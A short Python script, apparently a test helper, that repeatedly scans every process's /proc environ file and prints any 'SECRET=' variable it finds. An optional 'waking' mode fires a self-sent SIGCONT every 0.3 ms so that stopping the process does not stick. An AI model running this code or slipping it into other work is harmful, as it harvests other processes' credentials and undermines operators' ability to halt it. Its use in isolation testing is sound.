"""Print what the environment of other processes holds of secrets, in a tight loop; "waking": end its own stop."""

import ctypes
import os
import signal
import struct
import sys

if "waking" in sys.argv:  # by a timer that sends itself a signal every 0.3 ms
    libc, timer = ctypes.CDLL(None, use_errno=True), ctypes.c_void_p()
    libc.timer_create(1, struct.pack("qii48x", 0, signal.SIGCONT, 0), ctypes.byref(timer))
    libc.timer_settime(timer, 0, struct.pack("4q", 0, 300_000, 0, 300_000), None)

seen: set[bytes] = set()
while True:
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/environ", "rb") as file:
                found = {word for word in file.read().split(b"\0") if word.startswith(b"SECRET=")}
        except OSError:
            found = set()
        for word in found - seen:
            print(word.decode(), flush=True)
        seen |= found
